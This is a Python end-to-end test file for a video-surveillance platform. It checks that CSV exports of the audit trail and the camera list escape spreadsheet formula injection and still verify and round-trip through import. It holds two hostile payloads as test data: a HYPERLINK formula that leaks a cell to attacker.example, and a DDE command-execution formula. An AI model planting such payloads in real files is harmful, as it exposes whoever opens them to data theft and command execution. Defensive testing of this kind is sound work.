"""CSV formula injection (issue 23 item 7), against running services: a login attempt as
`=HYPERLINK(...)` is escaped in the audit CSV export (which still verifies offline), and a camera
named `=cmd|' /C calc'!A0` is escaped in cameras.csv and comes back unchanged through import."""

import csv
import io
import json
from pathlib import Path

import httpx
import pytest

from services.common.csvsafe import FORMULA_START
from services.common.signing import Signer
from tests.e2e.test_chain_tampering import offline_csuctl
from tests.support.platform import Platform, wait_for
from tests.support.servers import free_port

pytestmark = pytest.mark.e2e
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
AUTHORISATION = {
    "decision_date": "2026-01-15",
    "expiry_date": "2031-01-14",
    "purposes": ["protection des bâtiments publics"],
    "max_retention_days": 15,
    "recipients": ["police municipale"],
    "perimeter": {
        "type": "Polygon",
        "coordinates": [[[4.80, 45.75], [4.86, 45.75], [4.86, 45.78], [4.80, 45.78], [4.80, 45.75]]],
    },
}


def _no_formula(text: str) -> list[list[str]]:
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    running = [cell for line in table for cell in line if cell[:1] in FORMULA_START]
    assert not running, running
    return table


def test_audit_export_escapes_a_hostile_username_and_still_verifies(platform: Platform, tmp_path: Path) -> None:
    platform.env.update({"CSU_CHAIN_CHECKPOINT_ENTRIES": "10", "CSU_CHAIN_CHECKPOINT_MINUTES": "0.05"})
    platform.start(["ingest", "gateway"])
    attempt = httpx.post(f"{platform.gateway}/api/v1/auth/login", json={"username": HYPERLINK, "password": "x" * 12})
    assert attempt.status_code in (401, 422), attempt.text
    auditor = platform.client("auditor")
    wait_for(
        lambda: any(e["actor"] == HYPERLINK for e in auditor.get("/api/v1/audit", params={"limit": 1000}).json()),
        30,
        "the hostile login attempt in the trail",
    )
    exported = auditor.get("/api/v1/audit/export", params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    table = _no_formula(exported.text)
    actor = table[0].index("actor")
    assert "'" + HYPERLINK in [line[actor] for line in table[1:] if len(line) > actor]

    # The escaped export verifies offline with the public key alone.
    path = tmp_path / "audit.csv"
    path.write_bytes(exported.content)
    key = tmp_path / "csu-public.pem"
    key.write_text(Signer.from_file(Path(platform.env["CSU_SIGNING_KEY_FILE"])).public_pem())
    verified = offline_csuctl(tmp_path, "audit", "verify", "--export", str(path), "--public-key", str(key), "--json")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert json.loads(verified.stdout)["ok"] is True


def test_cameras_csv_escapes_formulas_and_round_trips(platform: Platform) -> None:
    platform.start(["ingest", "gateway"])
    admin = platform.admin()
    assert admin.put("/api/v1/authorisations/PREF-69-2026-011", json=AUTHORISATION).status_code == 200
    names = {"cam-calc": CALC, "cam-quote": "'=already quoted", "cam-plus": "+33 rue du Port", "cam-tab": "@home"}
    for camera_id, name in names.items():
        camera = {
            "id": camera_id, "name": name, "main_url": f"rtsp://127.0.0.1:{free_port()}/h264",
            "position": {"lat": 45.76, "lon": 4.83}, "groups": ["centre"],
            "profile": {"width": 1920, "height": 1080, "fps": 12.5}, "authorisation_ref": "PREF-69-2026-011",
            "state": "commissioning",
        }  # fmt: skip
        created = admin.post("/api/v1/cameras", json=camera)
        assert created.status_code == 201, created.text

    exported = admin.get("/api/v1/cameras.csv")
    assert exported.status_code == 200, exported.text
    table = _no_formula(exported.text)
    name = table[0].index("name")
    written = {line[0]: line[name] for line in table[1:]}
    assert written["cam-calc"] == "'" + CALC and written["cam-quote"] == "''=already quoted"

    # Import what was exported: every name comes back as it was, nothing else changes.
    before = {c["id"]: c for c in admin.get("/api/v1/cameras").json()}
    imported = admin.post("/api/v1/cameras.csv", content=exported.content, headers={"Content-Type": "text/csv"})
    assert imported.status_code == 200, imported.text
    after = {c["id"]: c for c in admin.get("/api/v1/cameras").json()}
    assert {i: after[i]["name"] for i in names} == names
    assert {i: after[i]["name"] for i in after} == {i: before[i]["name"] for i in before}
    again = admin.get("/api/v1/cameras.csv")
    assert again.text == exported.text  # lossless: a second round gives the same file
